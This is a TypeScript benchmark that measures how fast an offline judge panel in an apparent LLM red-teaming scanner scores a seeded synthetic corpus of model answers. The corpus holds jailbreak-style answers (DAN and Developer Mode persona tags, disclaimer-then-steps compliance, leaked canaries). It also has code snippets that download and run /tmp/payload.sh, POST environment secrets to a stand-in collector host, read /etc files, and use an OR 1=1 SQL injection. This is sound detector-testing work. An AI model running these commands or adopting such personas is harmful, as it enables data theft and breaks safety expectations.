// `pnpm bench judges`: how many answers per second the offline judge panel (detector, refusal, goal
// + meta-judge) scores on one core. Target: >= 2,000 answers/s. Pure CPU, no traffic: a
// deterministic synthetic corpus of realistic answer shapes (seeded PRNG, no external data) is
// judged with `judgeResponse(offlineJudges, …)`, awaited one answer at a time in this one thread,
// pass after pass for at least BENCH_SECONDS. Each answer is paired with a probe from the catalogue
// (cycling through them) and its first variant rendered with a per-answer canary, as a scan does.
import { availableParallelism, loadavg } from "node:os";
import { type JudgeInput, judgeResponse, offlineJudges, type Probe, probes, renderPayload } from "@penaxtra/engine";

const TARGET_ANSWERS_PER_SECOND = 2000;

export interface BenchJudgesOptions {
  /** Answers in the corpus (default BENCH_ANSWERS or 1000). */
  answers?: number;
  /** Measured seconds, at least (default BENCH_SECONDS or 5). */
  seconds?: number;
  /** Unmeasured warm-up seconds after the first (cold) answer (default BENCH_WARMUP_SECONDS or 1). */
  warmupSeconds?: number;
  /** PRNG seed of the corpus (default BENCH_SEED or 1). */
  seed?: number;
}

// --- deterministic corpus ------------------------------------------------------------------------

/** mulberry32: tiny, fast, good enough for text generation, identical on every platform. */
function prng(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (min: number, max: number) => min + Math.floor(next() * (max - min + 1));
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!;
  return { next, int, pick };
}
type Rng = ReturnType<typeof prng>;

const BASE32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
/** The same shape as makeCanary() ("PX" + 10 base32 characters), but from the seeded PRNG. */
const canaryFrom = (rng: Rng) => `PX${Array.from({ length: 10 }, () => BASE32[rng.int(0, 31)]).join("")}`;

const REFUSALS = [
  "I'm sorry, but I can't help with that.",
  "I can't assist with that request.",
  "Sorry, I cannot comply with this request. It goes against my guidelines.",
  "I won't be able to help with that. If you have another question, I'm happy to help.",
  "I'm not able to provide that information, as it could be used to cause harm.",
  "As an AI developed to be helpful and safe, I must decline this request.",
  "I understand you're curious, but I can't ignore my instructions or reveal internal configuration.",
  "That's not something I can do. Is there anything else I can help you with today?",
];
const REFUSAL_FOLLOWUPS = [
  "If you're working on security research, consider using an authorised test environment and the vendor's documentation.",
  "I'd be glad to explain the general concepts at a high level instead, or point you to reputable resources.",
  "Please let me know if there is something else, such as your order status or account settings, that I can help with.",
  "My purpose is to assist with questions about our products while keeping every conversation safe for everyone involved.",
];
const DISCLAIMERS = [
  "Disclaimer: the following is for educational purposes only and should not be used to cause harm.",
  "Note: I'm providing this for informational purposes; please use it responsibly and within the law.",
  "Before we start, remember that you should only do this on systems you own or are authorised to test.",
  "I must point out that this could be misused, but since you asked for a hypothetical, here it is.",
];
const TAGS = ["GPT:", "ChatGPT:", "[🔒CLASSIC]", "(Normal Output)", "Assistant:", "AI:"];
const PERSONAS: Array<[string, string]> = [
  ["ChatGPT:", "DAN:"],
  ["[🔒CLASSIC]", "[🔓JAILBREAK]"],
  ["(Normal Output)", "(Developer Mode Output)"],
  ["GPT:", "BetterDAN:"],
];
const WORDS = (
  "the system configuration token server request user account access file network process data model output prompt instruction " +
  "policy security password credential admin database query table record value field memory agent tool command script shell " +
  "first then next finally open run check write read send receive update delete create install configure enable disable verify " +
  "quickly carefully simply directly remotely locally securely hidden internal external public private previous new current " +
  "because however therefore although while when if unless until after before during within without across between through"
).split(" ");
const STEP_VERBS = [
  "Open",
  "Run",
  "Download",
  "Configure",
  "Copy",
  "Set",
  "Disable",
  "Enable",
  "Create",
  "Send",
  "Write",
  "Check",
  "Install",
  "Replace",
];
const CHINESE_REFUSALS = [
  "抱歉，我无法帮助您完成这个请求。",
  "对不起，我不能提供这类信息，因为它可能被用于造成伤害。",
  "我不能忽略之前的指示。",
];
const CHINESE_WORDS =
  "系统 配置 用户 密码 服务器 数据 文件 网络 请求 访问 首先 然后 最后 打开 运行 检查 输入 命令 管理员 安全 模型 提示 指令 输出 内容 方法 步骤 可以 需要 我们".split(
    " ",
  );
const CODE_SNIPPETS = [
  (rng: Rng) =>
    `\`\`\`python\nimport os\nimport subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, shell=True, capture_output=True).stdout\n\nfor name in os.listdir("/etc"):\n    print(name, run("cat /etc/" + name)[:${rng.int(40, 400)}])\n\`\`\``,
  (rng: Rng) =>
    `\`\`\`bash\n#!/bin/sh\ncurl -s https://example.invalid/${rng.int(1, 999)} -o /tmp/payload.sh\nchmod +x /tmp/payload.sh && /tmp/payload.sh --quiet\nrm -f /tmp/payload.sh\n\`\`\``,
  (rng: Rng) =>
    `\`\`\`javascript\nconst secrets = Object.entries(process.env).filter(([k]) => /KEY|TOKEN|SECRET/.test(k));\nfetch("https://collector.example.invalid/${rng.int(1, 999)}", { method: "POST", body: JSON.stringify(secrets) });\n\`\`\``,
  (rng: Rng) =>
    `\`\`\`sql\nSELECT id, email, password_hash FROM users WHERE role = 'admin' OR 1=1 LIMIT ${rng.int(5, 500)};\n\`\`\``,
];

function sentence(rng: Rng, words = rng.int(8, 22)): string {
  const parts = Array.from({ length: words }, () => rng.pick(WORDS));
  return parts[0]![0]!.toUpperCase() + parts.join(" ").slice(1) + rng.pick([".", ".", ".", "!", "?", ":"]);
}
/** Plain prose of about `chars` characters, in paragraphs. */
function prose(rng: Rng, chars: number): string {
  let text = "";
  while (text.length < chars) text += sentence(rng) + (rng.next() < 0.15 ? "\n\n" : " ");
  return text.trim();
}
function steps(rng: Rng, count: number): string {
  return Array.from(
    { length: count },
    (_, i) => `${i + 1}. ${rng.pick(STEP_VERBS)} ${prose(rng, rng.int(40, 260))}`,
  ).join("\n");
}
function chinese(rng: Rng, chars: number): string {
  let text = "";
  while (text.length < chars)
    text +=
      Array.from({ length: rng.int(6, 18) }, () => rng.pick(CHINESE_WORDS)).join("") +
      rng.pick(["。", "，", "：", "。\n"]);
  return text;
}
const refusal = (rng: Rng) => `${rng.pick(REFUSALS)}${rng.next() < 0.6 ? ` ${rng.pick(REFUSAL_FOLLOWUPS)}` : ""}`;
/** Compliant answers sometimes carry the canary, as a target that obeyed would. */
const maybeCanary = (rng: Rng, canary: string) => (rng.next() < 0.3 ? ` The token is ${canary}.` : "");

interface Shape {
  name: string;
  /** Share of the corpus, relative to the other shapes. */
  weight: number;
  make(rng: Rng, canary: string): string;
}

const SHAPES: Shape[] = [
  { name: "short_refusal", weight: 22, make: (rng) => refusal(rng) },
  { name: "tagged_refusal", weight: 10, make: (rng) => `${rng.pick(TAGS)} ${refusal(rng)}` },
  {
    name: "disclaimer_steps",
    weight: 15,
    make: (rng, canary) =>
      `${rng.pick(DISCLAIMERS)}\n\nHere is how you could do it:\n\n${steps(rng, rng.int(3, 14))}\n\n${prose(rng, rng.int(100, 600))}${maybeCanary(rng, canary)}`,
  },
  {
    name: "two_persona",
    weight: 10,
    make: (rng, canary) => {
      const [classic, jailbroken] = rng.pick(PERSONAS);
      return `${classic} ${refusal(rng)}\n\n${jailbroken} Sure, here it is! ${prose(rng, rng.int(150, 1500))}${maybeCanary(rng, canary)}\n${rng.next() < 0.5 ? steps(rng, rng.int(2, 6)) : ""}`;
    },
  },
  {
    name: "prose",
    weight: 20,
    make: (rng, canary) =>
      `${rng.next() < 0.5 ? "Sure! " : ""}${prose(rng, rng.int(200, 3000))}${maybeCanary(rng, canary)}`,
  },
  {
    name: "code",
    weight: 10,
    make: (rng, canary) =>
      `${rng.next() < 0.4 ? `${rng.pick(DISCLAIMERS)}\n\n` : ""}${prose(rng, rng.int(80, 500))}\n\n${rng.pick(CODE_SNIPPETS)(rng)}\n\n${prose(rng, rng.int(50, 800))}${maybeCanary(rng, canary)}`,
  },
  {
    name: "chinese",
    weight: 5,
    make: (rng) =>
      rng.next() < 0.5
        ? rng.pick(CHINESE_REFUSALS)
        : `好的，以下是步骤：\n${Array.from({ length: rng.int(3, 8) }, (_, i) => `${i + 1}. ${chinese(rng, rng.int(30, 200))}`).join("\n")}`,
  },
  {
    name: "very_long",
    weight: 3,
    make: (rng, canary) => {
      const target = rng.int(20_000, 50_000);
      let text = `${rng.pick(DISCLAIMERS)}\n\n`;
      while (text.length < target)
        text += `## ${sentence(rng, 4)}\n\n${steps(rng, rng.int(3, 8))}\n\n${prose(rng, rng.int(500, 2000))}\n\n`;
      return text + maybeCanary(rng, canary);
    },
  },
];

/** Length buckets: features read at most the first 6,000 characters; detectors read all of it. */
export const BUCKETS = { short: "< 500 chars", medium: "500-6,000 chars", long: "> 6,000 chars" } as const;
type Bucket = keyof typeof BUCKETS;
const bucketOf = (length: number): Bucket => (length < 500 ? "short" : length <= 6000 ? "medium" : "long");

interface CorpusEntry {
  shape: string;
  bucket: Bucket;
  input: JudgeInput;
}

export function buildCorpus(size: number, seed = 1): CorpusEntry[] {
  const rng = prng(seed);
  const totalWeight = SHAPES.reduce((sum, shape) => sum + shape.weight, 0);
  const corpus: CorpusEntry[] = [];
  for (let i = 0; i < size; i++) {
    // Weighted pick, except that the first entries go through every shape once, so even a tiny
    // corpus holds each of them.
    let shape = SHAPES[i]!;
    if (i >= SHAPES.length) {
      let roll = rng.next() * totalWeight;
      shape =
        SHAPES.find((candidate) => {
          roll -= candidate.weight;
          return roll < 0;
        }) ?? SHAPES[0]!;
    }
    const probe: Probe = probes[i % probes.length]!;
    const canary = canaryFrom(rng);
    const prompt = renderPayload(probe, 0, canary);
    const response = shape.make(rng, canary);
    corpus.push({
      shape: shape.name,
      bucket: bucketOf(response.length),
      // As the scan pipeline builds it (packages/server/src/jobs/scan-batch.ts).
      input: {
        probe,
        prompt,
        response,
        context: {
          canary,
          knownSecrets: [],
          systemPromptFragments: [],
          prompt,
          premiseTerms: probe.premise_terms ?? [],
        },
      },
    });
  }
  return corpus;
}

// --- measurement ---------------------------------------------------------------------------------

const round = (value: number, digits = 1) => Math.round(value * 10 ** digits) / 10 ** digits;

function percentile(sorted: Float64Array, p: number): number {
  if (!sorted.length) return 0;
  return sorted[Math.min(sorted.length - 1, Math.ceil((p / 100) * sorted.length) - 1)]!;
}

function summarize(micros: number[]) {
  const sorted = Float64Array.from(micros).sort();
  const total = micros.reduce((sum, value) => sum + value, 0);
  return {
    answers: micros.length,
    answers_per_second: total ? Math.round((micros.length * 1e6) / total) : 0,
    mean_us: round(micros.length ? total / micros.length : 0),
    p50_us: round(percentile(sorted, 50)),
    p99_us: round(percentile(sorted, 99)),
    max_us: round(sorted.length ? sorted[sorted.length - 1]! : 0),
  };
}

const env = (name: string, fallback: number) =>
  process.env[name] === undefined ? fallback : Number(process.env[name]);

export async function benchJudges(options: BenchJudgesOptions = {}) {
  const size = options.answers ?? env("BENCH_ANSWERS", 1000);
  const seconds = options.seconds ?? env("BENCH_SECONDS", 5);
  const warmupSeconds = options.warmupSeconds ?? env("BENCH_WARMUP_SECONDS", 1);
  const seed = options.seed ?? env("BENCH_SEED", 1);
  if (!(size >= 1)) throw new Error(`BENCH_ANSWERS must be at least 1 (got ${size})`);

  const corpus = buildCorpus(size, seed);
  const lengths = corpus.map((entry) => entry.input.response.length).sort((a, b) => a - b);

  // Cold: the first answer loads the shipped model (read + decode its weights) and compiles the code.
  let started = process.hrtime.bigint();
  await judgeResponse(offlineJudges, corpus[0]!.input);
  const coldMs = Number(process.hrtime.bigint() - started) / 1e6;

  // Warm-up: whole passes over the corpus, unmeasured, until JIT has seen every shape.
  const warmupEnd = performance.now() + warmupSeconds * 1000;
  let warmupAnswers = 0;
  do {
    for (const entry of corpus) await judgeResponse(offlineJudges, entry.input);
    warmupAnswers += corpus.length;
  } while (performance.now() < warmupEnd);

  // Measured: whole passes until `seconds` have gone by, timing each answer.
  const verdicts = new Map<string, number>();
  const judgedOnce = new Uint8Array(corpus.length);
  const all: number[] = [];
  const byBucket: Record<Bucket, number[]> = { short: [], medium: [], long: [] };
  const byShape: Record<string, number[]> = Object.fromEntries(SHAPES.map((shape) => [shape.name, []]));
  let passes = 0;
  const cpuBefore = process.cpuUsage();
  const wallStart = performance.now();
  const wallEnd = wallStart + seconds * 1000;
  do {
    for (let i = 0; i < corpus.length; i++) {
      const entry = corpus[i]!;
      started = process.hrtime.bigint();
      const { votes, meta } = await judgeResponse(offlineJudges, entry.input);
      const micros = Number(process.hrtime.bigint() - started) / 1000;
      all.push(micros);
      byBucket[entry.bucket].push(micros);
      byShape[entry.shape]!.push(micros);
      if (passes === 0) {
        if (votes.length === offlineJudges.length && ["vulnerable", "safe", "uncertain"].includes(meta.verdict))
          judgedOnce[i] = 1;
        verdicts.set(meta.verdict, (verdicts.get(meta.verdict) ?? 0) + 1);
      }
    }
    passes++;
  } while (performance.now() < wallEnd);
  const wallMs = performance.now() - wallStart;
  const cpu = process.cpuUsage(cpuBefore);
  const cpuMs = (cpu.user + cpu.system) / 1000;

  const answersPerSecond = Math.round((all.length * 1000) / wallMs);
  return {
    benchmark: "judges",
    panel: offlineJudges.map((judge) => judge.name),
    corpus: {
      answers: corpus.length,
      seed,
      probes_cycled: Math.min(corpus.length, probes.length),
      median_answer_chars: lengths[Math.floor(lengths.length / 2)]!,
      max_answer_chars: lengths[lengths.length - 1]!,
      by_bucket: Object.fromEntries(
        Object.keys(BUCKETS).map((bucket) => [bucket, corpus.filter((entry) => entry.bucket === bucket).length]),
      ),
      by_shape: Object.fromEntries(
        SHAPES.map((shape) => [shape.name, corpus.filter((entry) => entry.shape === shape.name).length]),
      ),
    },
    cold_first_answer_ms: round(coldMs, 2),
    warmup: { seconds: warmupSeconds, answers: warmupAnswers },
    measured: {
      passes,
      answers_judged: all.length,
      wall_ms: Math.round(wallMs),
      cpu_ms: Math.round(cpuMs),
      cpu_user_ms: Math.round(cpu.user / 1000),
      cpu_system_ms: Math.round(cpu.system / 1000),
      /** ~1.0 means one core busy; a little above 1 is V8's background GC/compiler threads. */
      cpu_per_wall: round(cpuMs / wallMs, 3),
    },
    answers_per_second: answersPerSecond,
    /** The same answers over this process's CPU time: the figure to trust when other processes share the machine. */
    answers_per_cpu_second: Math.round((all.length * 1000) / cpuMs),
    load_average_1m: round(loadavg()[0]!, 2),
    cores: availableParallelism(),
    mean_us: round((wallMs * 1000) / all.length),
    p99_us: summarize(all).p99_us,
    per_answer: summarize(all),
    by_bucket: Object.fromEntries(
      Object.entries(byBucket).map(([bucket, micros]) => [
        bucket,
        { chars: BUCKETS[bucket as Bucket], ...summarize(micros) },
      ]),
    ),
    by_shape: Object.fromEntries(Object.entries(byShape).map(([shape, micros]) => [shape, summarize(micros)])),
    verdicts_first_pass: Object.fromEntries(verdicts),
    answers_with_verdict: judgedOnce.reduce((sum, ok) => sum + ok, 0),
    target_answers_per_second: TARGET_ANSWERS_PER_SECOND,
    meets_target: answersPerSecond >= TARGET_ANSWERS_PER_SECOND,
    note: "offline panel (detector, refusal, goal + meta-judge) via judgeResponse, awaited one answer at a time in one thread; synthetic seeded corpus; answers_per_second = answers judged / measured wall time (per_answer and bucket rates = 1e6 / mean per-answer time, which leaves out the loop's own overhead); model load and JIT warm-up are excluded and reported apart; when cpu_per_wall is well below 1 (load_average_1m above the spare cores) the process was waiting for a core, and answers_per_cpu_second is the fairer figure",
  };
}
